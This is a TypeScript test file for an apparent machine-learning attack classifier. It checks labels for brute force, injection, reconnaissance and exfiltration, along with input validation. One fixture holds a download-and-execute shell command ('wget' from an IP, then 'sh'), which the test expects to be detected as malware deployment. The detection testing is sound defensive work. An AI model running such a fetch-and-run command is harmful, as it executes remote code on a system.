import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { AppError } from '../../src/core/errors.ts';
import { parseNativeEvent } from '../../src/ingest/native.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { createMlService } from '../../src/score/ml-service.ts';

const service = createMlService({
  scorer: openLocalScorer({ onWarning: assert.fail }),
  parseEvent: parseNativeEvent,
  version: '1.2.3',
  clock: () => Date.parse('2026-11-25T08:00:00.000Z'),
});
const quiet = {
  failed_logins: 1,
  request_rate: 50,
  commands_count: 3,
  sql_payload: 0,
  honeytoken_access: 0,
  session_time: 300,
};

describe('the ML service, asked with six numbers', () => {
  const cases: [string, object, string][] = [
    ['an ordinary visit', {}, 'Normal'],
    [
      'the least of everything',
      { failed_logins: 0, request_rate: 1, commands_count: 0, session_time: 10 },
      'Normal',
    ],
    ['SQL in a payload', { sql_payload: 1 }, 'Injection'],
    ['very many failed sign-ins', { failed_logins: 120, request_rate: 200 }, 'BruteForce'],
    ['requests faster than people', { request_rate: 550 }, 'Recon'],
    ['a token that was touched', { honeytoken_access: 1, commands_count: 15 }, 'DataExfil'],
    [
      'everything at once',
      { failed_logins: 150, request_rate: 600, commands_count: 20, sql_payload: 1, honeytoken_access: 1 },
      'Injection',
    ],
  ];
  for (const [name, more, expected] of cases)
    it(`calls ${name} ${expected}`, () => {
      const answer = service.predict({ ...quiet, ...more });
      assert.equal(answer.attack_type, expected);
      assert.ok(Number.isInteger(answer.risk_score) && answer.risk_score >= 1 && answer.risk_score <= 10);
      assert.ok(answer.confidence > 0 && answer.confidence <= 1);
      assert.equal(typeof answer.is_anomaly, 'boolean');
      assert.equal(typeof answer.anomaly_score, 'number');
      assert.ok(expected === 'Normal' ? answer.risk_score < 5 : answer.risk_score >= 6);
    });

  it('refuses what is missing, of another type or out of range, naming every field', () => {
    const { session_time: _, ...rest } = quiet;
    assert.throws(
      () => service.predict({ ...rest, failed_logins: 151, request_rate: '50' }),
      (error: unknown) => {
        assert.ok(error instanceof AppError);
        assert.equal(error.code, 'invalid_request');
        assert.deepEqual(error.errors?.map(({ field }) => field).sort(), [
          'failed_logins',
          'request_rate',
          'session_time',
        ]);
        return true;
      },
    );
    for (const body of [null, 7, 'x', [], undefined])
      assert.throws(() => service.predict(body), { code: 'invalid_request' });
  });

  it('judges by the raw fields where they stand beside the numbers', () => {
    const answer = service.predict({
      ...quiet,
      service: 'ssh',
      source_ip: '203.0.113.9',
      activity: 'command',
      payload: 'cd /tmp; wget http://198.51.100.7/x; sh x',
    });
    assert.equal(answer.attack_type, 'MalwareDeployment');
    assert.equal(answer.contract_type, 'Injection');
    assert.ok(answer.risk_score >= 8);
    assert.ok(answer.techniques.includes('T1105'));
  });

  it('does not refuse six good numbers for raw fields that are none', () => {
    const answer = service.predict({ ...quiet, service: 'x'.repeat(90), payload: 7, hostname: {} });
    assert.equal(answer.attack_type, 'Normal');
  });

  it('counts a batch, and names the entry that is wrong', () => {
    const batch = service.predictBatch({
      logs: [quiet, { ...quiet, sql_payload: 1 }, { ...quiet, failed_logins: 140 }],
    });
    assert.equal(batch.total_processed, 3);
    assert.equal(batch.high_risk_count, 2);
    assert.throws(
      () => service.predictBatch({ logs: [quiet, {}] }),
      (error: unknown) => {
        assert.ok(error instanceof AppError);
        assert.equal(error.errors?.[0]?.field, 'logs.1.failed_logins');
        return true;
      },
    );
    for (const body of [{}, { logs: [] }, { logs: 'x' }, null])
      assert.throws(() => service.predictBatch(body), { code: 'invalid_request' });
  });
});

describe('the ML service, asked with whole events', () => {
  const event = {
    timestamp: '2026-11-25T08:00:00Z',
    service: 'ssh',
    source_ip: '203.0.113.9',
    activity: 'login failed',
    payload: 'root:1234',
  };

  it('judges them, with the source’s past where the caller tells it', () => {
    const alone = service.score(event) as { risk_score: number };
    const late = service.score({ ...event, history: { ...quiet, failed_logins: 60 } }) as typeof alone;
    assert.ok(late.risk_score > alone.risk_score);
    assert.ok(late.risk_score >= 8);
  });

  it('takes many at once and endpoint events too', () => {
    const agent = {
      timestamp: '2026-11-25T08:00:00Z',
      hostname: 'admission-7',
      username: 'mara',
      file_accessed: 'passwords.txt',
      file_path: '/home/mara/passwords.txt',
      action: 'COPIED',
      severity: 'CRITICAL',
      alert_type: 'file',
    };
    const { results } = service.score({ events: [event, agent] }) as { results: { attack_type: string }[] };
    assert.deepEqual(
      results.map(({ attack_type }) => attack_type),
      ['BruteForce', 'DataExfil'],
    );
    assert.throws(() => service.score({ events: [{}] }), { code: 'invalid_request' });
  });

  it('says what it is', () => {
    assert.equal(service.health().status, 'healthy');
    assert.equal(service.health().model_loaded, true);
    assert.equal(service.features().total_features, 6);
    assert.deepEqual(service.features().feature_order[0], 'failed_logins');
  });
});
